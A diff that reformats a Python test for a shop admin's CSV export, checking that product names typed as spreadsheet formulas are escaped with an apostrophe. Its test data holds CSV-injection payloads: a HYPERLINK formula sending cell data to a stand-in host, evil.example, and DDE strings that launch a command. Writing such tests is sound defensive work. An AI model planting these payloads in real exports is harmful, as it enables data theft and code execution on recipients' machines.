@@ -18,8 +18,13 @@ from storefront.domain.models import Product, StaffRole, Variant
 from tests.unit import factories as f
 
 PASSWORD = "correct horse battery"
-FORMULAS = ['=HYPERLINK("https://evil.example?d="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-            "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"]
+FORMULAS = [
+    '=HYPERLINK("https://evil.example?d="&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=1+1",
+]
 STARTS_A_FORMULA = ("=", "+", "-", "@", "\t", "\r")
 
 
@@ -31,17 +36,28 @@ async def client(db, settings):
     app = create_app(settings, manage_db=False)
     async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="https://shop.test") as client:
         token = re.search(r'name="csrf_token" value="([^"]+)"', (await client.get("/admin/login")).text).group(1)
-        await client.post("/admin/login", data={"csrf_token": token, "email": "owner@bottega.example",
-                                                "password": PASSWORD})
+        await client.post(
+            "/admin/login", data={"csrf_token": token, "email": "owner@bottega.example", "password": PASSWORD}
+        )
         token = re.search(r'name="csrf_token" value="([^"]+)"', (await client.get("/admin")).text).group(1)
         for n, formula in enumerate(FORMULAS):
-            saved = await client.post("/admin/products/new", data={
-                "csrf_token": token, "name": formula, "slug": f"p{n}", "description": formula,
-                "category_id": str(clothing.id), "tax_class": "standard", "active": "on"})
+            saved = await client.post(
+                "/admin/products/new",
+                data={
+                    "csrf_token": token,
+                    "name": formula,
+                    "slug": f"p{n}",
+                    "description": formula,
+                    "category_id": str(clothing.id),
+                    "tax_class": "standard",
+                    "active": "on",
+                },
+            )
             assert saved.status_code == 303, saved.text[:500]
             product = await Product.get(slug=f"p{n}")
-            added = await client.post(f"/admin/products/{product.id}/variants", data={
-                "csrf_token": token, "sku": f"P-{n}", "price": "10"})
+            added = await client.post(
+                f"/admin/products/{product.id}/variants", data={"csrf_token": token, "sku": f"P-{n}", "price": "10"}
+            )
             assert added.status_code == 303, added.text[:500]
         client.owner = await staff_domain.authenticate("owner@bottega.example", PASSWORD)
         yield client
@@ -52,8 +68,9 @@ async def test_no_exported_cell_starts_a_formula(client):
     assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
     rows = list(csv.reader(io.StringIO(response.text)))
     assert len(rows) == 1 + len(FORMULAS)
-    assert [(r, c) for r, row in enumerate(rows) for c, cell in enumerate(row) if cell.startswith(STARTS_A_FORMULA)] \
-        == []
+    assert [
+        (r, c) for r, row in enumerate(rows) for c, cell in enumerate(row) if cell.startswith(STARTS_A_FORMULA)
+    ] == []
     # What was typed is all there, behind the apostrophe that makes a spreadsheet show it as text.
     names = [row[catalog_csv.COLUMNS.index("product_name")] for row in rows[1:]]
     assert sorted(names) == sorted("'" + formula for formula in FORMULAS)
